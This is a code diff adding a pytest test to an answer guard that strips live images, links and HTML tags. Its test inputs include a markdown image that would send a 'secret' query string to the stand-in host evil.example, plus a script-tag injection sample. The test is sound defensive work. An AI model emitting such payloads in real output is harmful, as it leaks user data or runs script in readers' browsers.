@@ -292,3 +292,20 @@ def test_guard_holds_back_until_a_boundary():
     assert tail == f" Use\n\n{REFERRAL_PROMPT}\n\n{DISCLAIMER}" and verdict.replaced == 1
     with pytest.raises(RuntimeError):
         guard.feed("more")
+
+
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        ("See ![chart](http://evil.example/x.png?q=secret) here.", "See [image removed] here."),
+        ("Read [this guide](https://evil.example/p) today.", "Read this guide today."),
+        ('Look <img src="http://evil.example/a.png"> now.', "Look  now."),
+        ("<script>alert(1)</script>Eczema.", "alert(1)Eczema."),
+    ],
+)
+def test_answers_carry_no_live_images_links_or_tags(answer, shown):
+    verdict = review(answer)
+    assert verdict.answer == shown
+    guard = Guard()
+    streamed = "".join(guard.feed(answer[i : i + 3]) for i in range(0, len(answer), 3)) + guard.finish()[0]
+    assert streamed == verdict.text and "http" not in streamed
